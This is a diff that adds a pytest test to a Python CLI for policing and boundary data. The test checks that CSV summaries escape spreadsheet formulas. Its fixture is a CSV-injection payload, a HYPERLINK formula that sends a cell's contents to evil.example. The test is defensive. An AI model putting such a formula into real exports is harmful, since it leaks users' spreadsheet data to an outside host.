@@ -10,10 +10,13 @@ from collections import Counter
 from pathlib import Path
 
 import pytest
+from sqlalchemy import update
 from tests.conftest import SHIPPED_DATA
 from typer.testing import CliRunner
 
 from patrolgate.cli import app
+from patrolgate.store import create_database
+from patrolgate.store.tables import AreaRow
 
 runner = CliRunner()
 BOUNDARIES = SHIPPED_DATA / "london-boundaries"
@@ -241,3 +244,20 @@ def test_demo_builds_once_and_only_once(
     assert "3,678 events" in second
     code, listed, _ = invoke("deployment", "list", "--as", "sfc.adams", "--format", "json")
     assert code == 0 and len(json.loads(listed)) == 3
+
+
+def test_summary_csv_carries_no_formula_from_imported_names(home: Path) -> None:
+    """A borough named ``=HYPERLINK(...)`` (as an imported name may be): the summary's CSV
+    cell starts with an apostrophe, so a spreadsheet shows the text instead of running it."""
+    formula = '=HYPERLINK("https://evil.example/?leak="&A2,"Camden")'
+    import_boroughs()
+    invoke("import", "homicides", str(HOMICIDES))
+    database = create_database(f"sqlite:///{home / 'patrolgate.db'}")
+    with database.transaction() as session:
+        session.execute(update(AreaRow).where(AreaRow.name == "Camden").values(name=formula))
+    database.dispose()
+    code, out, err = invoke("events", "summary", "--by", "borough", "--format", "csv")
+    assert code == 0, err
+    cells = [cell for row in csv.reader(out.splitlines()) for cell in row]
+    assert "'" + formula in cells
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))]
